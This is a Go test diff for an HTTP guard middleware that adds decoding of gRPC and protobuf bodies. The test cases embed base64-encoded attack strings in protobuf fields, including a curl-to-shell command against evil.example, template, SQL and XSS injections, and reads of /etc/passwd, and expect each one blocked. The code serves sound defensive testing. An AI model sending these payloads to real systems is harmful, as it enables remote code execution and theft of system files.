@@ -1,6 +1,7 @@
 package guardhttp_test
 
 import (
+	"bytes"
 	"encoding/base64"
 	"net/http"
 	"net/http/httptest"
@@ -131,3 +132,63 @@ func TestEncodedPlacements(t *testing.T) {
 	}
 }
 
+// grpcFrame frames one message: the flag byte, the big-endian length.
+func grpcFrame(flag byte, msg []byte) []byte {
+	n := len(msg)
+	return append([]byte{flag, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}, msg...)
+}
+
+// pbString is a protobuf length-delimited field (a string or a message).
+func pbString(field int, v []byte) []byte {
+	b := []byte{byte(field<<3 | 2)}
+	n := len(v)
+	for n >= 0x80 {
+		b = append(b, byte(n)|0x80)
+		n >>= 7
+	}
+	return append(append(b, byte(n)), v...)
+}
+
+// TestGRPCBodies: a gRPC body is read by its frames and each message as
+// protobuf, so that its string fields are judged as values (base64 in
+// them decoded, as anywhere); gRPC-Web's text form is base64 of the same
+// frames. Benign messages, a varint field and a trailer frame pass; a body
+// that is not whole frames is judged as text, as before.
+func TestGRPCBodies(t *testing.T) {
+	g, err := guard.New(guard.WithoutEnv(), guard.WithLogger(zap.NewNop()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(200) }))
+	b64 := func(s string) []byte { return []byte(base64.StdEncoding.EncodeToString([]byte(s))) }
+	post := func(ctype string, body []byte) *http.Request {
+		r := httptest.NewRequest("POST", "/shop.Items/Lookup", bytes.NewReader(body))
+		r.Header.Set("Content-Type", ctype)
+		return r
+	}
+	nested := pbString(2, append(pbString(1, []byte("order 7")), pbString(3, b64("$(curl evil.example|sh)"))...))
+	benign := append(append(pbString(1, []byte("blue running shoes, size 42")), 0x10, 0x96, 0x01), pbString(2, pbString(1, b64("page two of the report")))...)
+	for _, c := range []struct {
+		name string
+		req  *http.Request
+		want int
+	}{
+		{"base64 string field", post("application/grpc", grpcFrame(0, pbString(1, b64("{{config.items()}}")))), 403},
+		{"base64 in a nested message", post("application/grpc+proto", grpcFrame(0, nested)), 403},
+		{"second frame", post("application/grpc", append(grpcFrame(0, pbString(1, []byte("ok"))), grpcFrame(0, pbString(1, b64("' or 1=1--")))...)), 403},
+		{"gRPC-Web text", post("application/grpc-web-text", b64(string(grpcFrame(0, pbString(1, b64("<svg onload=alert(1)>")))))), 403},
+		{"bare protobuf", post("application/x-protobuf", pbString(4, b64("../../../../etc/passwd"))), 403},
+
+		{"benign message", post("application/grpc", grpcFrame(0, benign)), 200},
+		{"benign with a trailer frame", post("application/grpc-web+proto", append(grpcFrame(0, benign), grpcFrame(0x80, []byte("grpc-status: 0\r\ngrpc-message: OK\r\n"))...)), 200},
+		{"not whole frames, judged as text", post("application/grpc", []byte("\x00\x00\x00\x00\xff; cat /etc/passwd")), 403},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			w := httptest.NewRecorder()
+			h.ServeHTTP(w, c.req)
+			if w.Code != c.want {
+				t.Errorf("status %d, want %d (body %s)", w.Code, c.want, strings.TrimSpace(w.Body.String()))
+			}
+		})
+	}
+}
